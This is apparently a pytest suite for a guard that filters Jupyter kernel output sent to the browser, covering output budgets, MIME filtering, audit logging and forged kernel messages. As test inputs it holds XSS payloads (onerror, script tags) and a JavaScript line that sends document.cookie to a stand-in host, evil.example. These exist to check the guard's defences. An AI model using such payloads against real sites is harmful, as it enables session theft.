"""Kernel output through the guarded websocket: budgets, MIME policy, audit, and ordinary work.

Each attack runs over both websocket protocols where the protocol matters.
"""

from __future__ import annotations

import importlib.util
import json
import sys
from pathlib import Path

import pytest

# The websocket client lives in this folder's conftest.py.
_spec = importlib.util.spec_from_file_location("guard_conftest", Path(__file__).with_name("conftest.py"))
_conftest = importlib.util.module_from_spec(_spec)
sys.modules["guard_conftest"] = _conftest
_spec.loader.exec_module(_conftest)

MIB = 1024 * 1024
CELL_BUDGET = 256 * 1024


def outputs(messages: list[dict]) -> list[dict]:
    return [m for m in messages if m["msg_type"] in ("stream", "display_data", "execute_result", "error")]


async def test_a_50_mb_print_does_not_reach_the_browser(any_kernel):
    ks = any_kernel
    before = ks.bytes_received()
    msgs = await ks.execute("print('Z' * (50 * 1024 * 1024))")
    received = ks.bytes_received() - before
    assert received < CELL_BUDGET + 64 * 1024
    text = "".join(m["content"].get("text", "") for m in outputs(msgs))
    assert "output withheld" in text
    assert [m for m in msgs if m["msg_type"] == "execute_reply"][0]["content"]["status"] == "ok"


async def test_many_small_prints_are_held_to_the_cell_budget(kernel):
    before = kernel.bytes_received()
    msgs = await kernel.execute(
        "import sys\nfor i in range(4000):\n    print('y' * 1000)\n    sys.stdout.flush()")
    received = kernel.bytes_received() - before
    # The budget counts shown text; each message also carries a few hundred bytes of headers.
    shown = sum(len(m["content"].get("text", "")) for m in outputs(msgs))
    assert shown < CELL_BUDGET + 4096
    assert received < 4000 * 1000


async def test_html_download_link_is_removed(any_kernel):
    ks = any_kernel
    msgs = await ks.execute(
        "from IPython.display import HTML, display\n"
        "display(HTML('<a download=\"people.csv\" href=\"data:text/csv;base64,aWQsbmFtZQ==\">get</a>"
        "<a href=\"blob:http://x/1\">b</a><img src=x onerror=\"fetch(1)\"><script>alert(1)</script>'))")
    # What came back, except the echo of the code itself (execute_input).
    frames = json.dumps([m for m in msgs if m["msg_type"] != "execute_input"]).encode()
    for forbidden in (b"data:text/csv", b"aWQsbmFtZQ==", b"download", b"blob:", b"onerror", b"<script"):
        assert forbidden not in frames
    html = [m for m in msgs if m["msg_type"] == "display_data"][0]["content"]["data"]
    assert "get" in html.get("text/html", "")


async def test_javascript_output_is_dropped(any_kernel):
    ks = any_kernel
    msgs = await ks.execute(
        "from IPython.display import Javascript, display\n"
        "display(Javascript('fetch(\"https://evil.example/\" + document.cookie)'))\n"
        "display({'application/pdf': 'JVBERi0xLjQK', 'image/svg+xml': '<svg onload=alert(1)/>'}, raw=True)")
    frames = json.dumps([m for m in msgs if m["msg_type"] != "execute_input"]).encode()
    for forbidden in (b"evil.example", b"document.cookie", b"JVBERi0", b"<svg", b"onload"):
        assert forbidden not in frames
    shown = [m["content"]["data"] for m in msgs if m["msg_type"] == "display_data"]
    assert len(shown) == 2 and all(set(d) == {"text/plain"} for d in shown)
    assert "type not allowed: application/pdf, image/svg+xml" in shown[1]["text/plain"]


async def test_user_expressions_do_not_carry_data_back(kernel, guard_server):
    (guard_server.home / "secret.txt").write_text("Ada Lovelace 91234")
    msgs = await kernel.execute("x = 1", user_expressions={"leak": "open('secret.txt').read()"})
    reply = [m for m in msgs if m["msg_type"] == "execute_reply"][0]
    assert reply["content"]["user_expressions"] == {}
    assert b"Ada Lovelace" not in b"".join(kernel.raw_frames)


async def test_comms_and_debugger_requests_do_not_reach_the_kernel(kernel):
    await kernel.send("comm_open", {"comm_id": "c1", "target_name": "jupyter.widget", "data": {}})
    await kernel.send("debug_request", {"type": "request", "seq": 1, "command": "debugInfo", "arguments": {}}, "control")
    # The kernel only ever sees the executions: its comm registry stays empty.
    msgs = await kernel.execute("print(len(get_ipython().kernel.comm_manager.comms))")
    text = "".join(m["content"].get("text", "") for m in outputs(msgs))
    assert text.strip() == "0"


async def test_every_execution_is_in_the_audit_log(kernel, guard_server):
    code = "audit_probe = 6 * 7"
    await kernel.execute(code)
    records = [r for r in guard_server.audit_records(action="kernel.execute") if r["detail"]["code"] == code]
    assert len(records) == 1
    rec = records[0]
    assert rec["workspace"] == "demo" and rec["actor"] == "alice" and rec["detail"]["kernel"]
    assert rec["detail"]["notebook"].endswith(".ipynb") and rec["detail"]["msg_id"]


async def test_ordinary_work_still_renders(kernel_v1):
    """pandas tables keep their HTML (sanitised), matplotlib plots arrive as PNG, errors show."""
    msgs = await kernel_v1.execute(
        "import pandas as pd\npd.DataFrame({'a': [1, 2], 'b': ['x', 'y']})")
    result = [m for m in msgs if m["msg_type"] == "execute_result"][0]["content"]["data"]
    assert "<table" in result["text/html"] and "<td>x</td>" in result["text/html"]
    msgs = await kernel_v1.execute(
        "import matplotlib\nmatplotlib.use('module://matplotlib_inline.backend_inline')\n"
        "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3]); plt.show()")
    images = [m["content"]["data"] for m in msgs if m["msg_type"] == "display_data"]
    assert any("image/png" in d for d in images)
    msgs = await kernel_v1.execute("1/0")
    error = [m for m in msgs if m["msg_type"] == "error"][0]["content"]
    assert error["ename"] == "ZeroDivisionError" and error["traceback"]


async def test_acro_uses_the_workspace_thresholds(kernel):
    msgs = await kernel.execute(
        "from enclave_guard.disclosure import workspace_acro\nprint(workspace_acro().config['safe_threshold'])")
    text = "".join(m["content"].get("text", "") for m in outputs(msgs))
    assert text.strip().splitlines()[-1] == "7"


# -- budgets count whole messages ---------------------------------------------------------------
#
# Hostile kernel code needs no print(): it can speak to the browser directly through the kernel's
# own session and sockets, with any message type, parent, header, metadata and size. Every test
# below does so and asserts that what reaches the websocket stays within the budgets (conftest's
# GUARD: 64 KiB per message, 256 KiB per execution; the per-connection budget is the default).

MESSAGE_BUDGET = 64 * 1024
CONNECTION_BUDGET = 512 * 1024  # policy.GuardSettings.output_connection_max_kb
# Framing: the websocket protocols' own bytes, and the guard's notices and minimal stand-ins.
SLACK = 64 * 1024

TO_BROWSER = '''
import uuid
_k = get_ipython().kernel

def to_browser(msg_type, content, channel="iopub", parent=None, header=None, parent_header=None, metadata=None):
    """Send one message to the browser as the kernel, by default answering the running execution."""
    parent = dict(_k.get_parent("shell")["header"] if parent is None else parent, **(parent_header or {}))
    msg = _k.session.msg(msg_type, content, parent=parent, metadata=metadata)
    msg["header"].update(header or {})
    if channel == "iopub":
        _k.session.send(_k.iopub_socket, msg)
    else:
        shell = (_k.shell_channel_thread.manager.get_subshell_to_shell_channel_socket(None)
                 if _k._supports_kernel_subshells else _k.shell_stream)
        _k.session.send(shell, msg, ident=_k._parent_ident["shell"])

def forged_parent():
    """The running execution's header under a msg_id the browser never sent."""
    return dict(_k.get_parent("shell")["header"], msg_id=uuid.uuid4().hex)
'''


def frames_since(ks, count: int) -> list[bytes]:
    return ks.raw_frames[count:]


def shown_text(messages: list[dict]) -> str:
    return "".join(m["content"].get("text", "") or m["content"].get("data", {}).get("text/plain", "")
                   for m in outputs(messages))


def ended_normally(messages: list[dict], status: str = "ok") -> dict:
    """The execution got its reply and its idle status; returns the reply's content."""
    replies = [m for m in messages if m["msg_type"] == "execute_reply"]
    assert len(replies) == 1 and replies[0]["content"]["status"] == status
    assert any(m["msg_type"] == "status" and m["content"]["execution_state"] == "idle" for m in messages)
    return replies[0]["content"]


async def run_until_closed(ks, code: str, timeout: float = 120) -> tuple[str, list[dict], bool]:
    """Run code; return its msg_id, every message received, and whether the websocket was closed
    before the execution ended."""
    msg_id = await ks.send("execute_request", {
        "code": code, "silent": False, "store_history": True, "user_expressions": {},
        "allow_stdin": False, "stop_on_error": True,
    })
    got, replied, idle = [], False, False
    while not (replied and idle):
        msg = await ks.receive(timeout)
        if msg is None:
            return msg_id, got, True
        got.append(msg)
        if msg.get("parent_header", {}).get("msg_id") == msg_id:
            replied = replied or msg["msg_type"] == "execute_reply"
            idle = idle or (msg["msg_type"] == "status" and msg["content"]["execution_state"] == "idle")
    return msg_id, got, False


async def test_display_metadata_counts_against_the_budget(any_kernel):
    ks = any_kernel
    before, seen = ks.bytes_received(), len(ks.raw_frames)
    msgs = await ks.execute(
        "from IPython.display import display\n"
        "display({'text/plain': 'small'}, metadata={'pad': 'M' * (20 * 1024 * 1024)}, raw=True)")
    assert ks.bytes_received() - before < CELL_BUDGET + SLACK
    assert not any(b"M" * 1024 in f for f in frames_since(ks, seen))
    assert "output withheld" in shown_text(msgs)
    ended_normally(msgs)


async def test_a_huge_exception_name_counts_against_the_budget(any_kernel):
    ks = any_kernel
    before, seen = ks.bytes_received(), len(ks.raw_frames)
    msgs = await ks.execute("raise type('E' * (3 * 1024 * 1024), (Exception,), {})('boom')")
    assert ks.bytes_received() - before < CELL_BUDGET + SLACK
    assert not any(b"E" * 1024 in f for f in frames_since(ks, seen))
    ended_normally(msgs, status="error")


async def test_output_under_a_forged_parent_id_gets_no_budget_of_its_own(any_kernel):
    """Each message under a parent id the browser never sent: once a budget per message, now the
    connection's budget for all of them together."""
    ks = any_kernel
    before = ks.bytes_received()
    _, _, closed = await run_until_closed(ks, TO_BROWSER + (
        "for _ in range(40):\n"
        "    to_browser('stream', {'name': 'stdout', 'text': 'F' * 50000}, parent=forged_parent())\n"))
    assert ks.bytes_received() - before < CONNECTION_BUDGET + SLACK
    assert closed


# Replies and statuses the kernel can repeat at will, each under the per-message cap.
PAD = "'A' * 50000"
ANSWERS = {
    "execute_input": ("iopub", f"{{'code': {PAD}, 'execution_count': 1}}"),
    "status": ("iopub", f"{{'execution_state': 'busy', 'pad': {PAD}}}"),
    "complete_reply": ("shell", f"{{'status': 'ok', 'matches': [{PAD}], 'cursor_start': 0, 'cursor_end': 0, "
                                "'metadata': {}}"),
    "history_reply": ("shell", f"{{'status': 'ok', 'history': [[0, 1, {PAD}]]}}"),
    "kernel_info_reply": ("shell", f"{{'status': 'ok', 'protocol_version': '5.3', 'implementation': 'x', "
                                   f"'language_info': {{'name': 'python'}}, 'banner': {PAD}, 'help_links': []}}"),
}


@pytest.mark.parametrize("msg_type", sorted(ANSWERS))
async def test_repeated_messages_are_held_to_the_execution_budget(any_kernel, msg_type):
    ks = any_kernel
    channel, content = ANSWERS[msg_type]
    before = ks.bytes_received()
    msgs = await ks.execute(TO_BROWSER + (
        f"for _ in range(20):\n    to_browser({msg_type!r}, {content}, channel={channel!r})\n"))
    assert ks.bytes_received() - before < CELL_BUDGET + SLACK
    ended_normally(msgs)


async def test_padded_headers_and_metadata_carry_nothing(any_kernel):
    ks = any_kernel
    seen = len(ks.raw_frames)
    small_reply = "{'status': 'ok', 'matches': [], 'cursor_start': 0, 'cursor_end': 0, 'metadata': {}}"
    msgs = await ks.execute(TO_BROWSER + (
        "for _ in range(4):\n"
        "    to_browser('stream', {'name': 'stdout', 'text': 'ok'}, header={'pad': 'H' * 100000})\n"
        "    to_browser('stream', {'name': 'stdout', 'text': 'ok'}, parent_header={'pad': 'P' * 100000})\n"
        "    to_browser('stream', {'name': 'stdout', 'text': 'ok'}, metadata={'pad': 'D' * 100000})\n"
        "    to_browser('status', {'execution_state': 'busy'}, header={'pad': 'H' * 100000})\n"
        f"    to_browser('complete_reply', {small_reply}, channel='shell', parent_header={{'pad': 'P' * 100000}})\n"))
    frames = frames_since(ks, seen)
    assert max(len(f) for f in frames) < MESSAGE_BUDGET
    for pad in (b"H", b"P", b"D"):
        assert not any(pad * 1024 in f for f in frames)
    # The padded statuses and replies still arrive, as minimal ones.
    assert len([m for m in msgs if m["msg_type"] == "status" and m["content"]["execution_state"] == "busy"]) >= 5
    assert len([m for m in msgs if m["msg_type"] == "complete_reply"]) == 4
    ended_normally(msgs)


async def test_the_connection_closes_past_its_budget_with_a_notice(any_kernel, guard_server):
    ks = any_kernel
    msg_id, msgs, closed = await run_until_closed(ks, TO_BROWSER + (
        "for _ in range(60):\n"
        "    to_browser('stream', {'name': 'stdout', 'text': 'F' * 40000}, parent=forged_parent())\n"))
    assert closed
    assert ks.conn.close_code == 1008  # policy violation: JupyterLab reconnects, with a fresh budget
    # The notice lands on the running execution's output, where the operator is looking.
    notices = [m for m in msgs if m["parent_header"].get("msg_id") == msg_id and m["msg_type"] == "stream"]
    assert any("connection closed" in m["content"]["text"] for m in notices)
    kernel_id = [r for r in guard_server.audit_records(action="kernel.execute")
                 if r["detail"]["msg_id"] == msg_id][0]["detail"]["kernel"]
    closings = [r["detail"] for r in guard_server.audit_records(action="egress.notice")
                if r["detail"]["channel"] == "kernel_connection" and r["detail"].get("kernel") == kernel_id]
    assert len(closings) == 1 and closings[0]["used"] > CONNECTION_BUDGET
    assert f"kernel {kernel_id}" in guard_server.log.read_text()


async def test_withheld_replies_and_statuses_still_end_the_execution(any_kernel):
    """JupyterLab waits for a reply and an idle status: over budget, they are replaced, never dropped."""
    ks = any_kernel
    # A reply over the per-message cap (a pager payload).
    msgs = await ks.execute(
        "get_ipython().payload_manager.write_payload({'source': 'page', 'start': 0, 'data': {'text/plain': 'Q' * 100000}})")
    reply = ended_normally(msgs)
    assert reply["payload"] == [] and isinstance(reply["execution_count"], int)
    # The execution's budget spent by other messages before its reply and idle status.
    msgs = await ks.execute(TO_BROWSER + (
        "for _ in range(8):\n    to_browser('status', {'execution_state': 'busy', 'pad': 'S' * 50000})\n"))
    reply = ended_normally(msgs)
    assert isinstance(reply["execution_count"], int)
    # A completion reply over the cap, for a request other than an execution.
    await ks.execute("zq_short = 1\nglobals()['zq_long' + 'z' * 70000] = 1")
    assert (await ask(ks, "complete_request", {"code": "zq_s", "cursor_pos": 4}))["matches"] == ["zq_short"]
    reply = await ask(ks, "complete_request", {"code": "zq_l", "cursor_pos": 4})
    assert reply["status"] == "ok" and reply["matches"] == []


async def ask(ks, msg_type: str, content: dict) -> dict:
    """Send a request; return its reply's content once its idle status has come too."""
    msg_id = await ks.send(msg_type, content)
    reply, idle = None, False
    while reply is None or not idle:
        msg = await ks.receive()
        if msg["parent_header"].get("msg_id") == msg_id:
            reply = msg["content"] if msg["msg_type"].endswith("_reply") else reply
            idle = idle or (msg["msg_type"] == "status" and msg["content"]["execution_state"] == "idle")
    return reply


async def test_every_message_never_dropped_has_a_minimal_stand_in(kernel):
    msgs = await kernel.execute(
        "from enclave_guard import policy\nfrom enclave_guard.kernel_channel import MINIMAL_ANSWERS\n"
        "print(sorted(policy.NEVER_DROPPED ^ set(MINIMAL_ANSWERS)))")
    assert shown_text(msgs).strip() == "[]"


async def test_every_connection_of_a_kernel_knows_its_requests(guard_server):
    """JupyterLab may open several websockets to one kernel (a notebook and its console): output
    answering a request sent through one is attributed on all of them, not charged as unattributed."""
    kernel_id = guard_server.start_kernel("shared.ipynb")
    first = await _conftest.KernelSocket.open(guard_server, kernel_id, "json")
    second = await _conftest.KernelSocket.open(guard_server, kernel_id, "v1")
    try:
        code = "import sys\nfor i in range(4):\n    print('s' * 50000)\n    sys.stdout.flush()"
        for _ in range(3):  # 600 kB in all: more than a connection's budget for unattributed output
            await first.execute(code)
        texts = []
        while sum(len(t) for t in texts) < 3 * 4 * 50000:
            msg = await second.receive(30)
            assert msg is not None, "the second connection was closed"
            if msg["msg_type"] == "stream":
                texts.append(msg["content"]["text"])
        assert "output withheld" not in "".join(texts)
    finally:
        first.close()
        second.close()
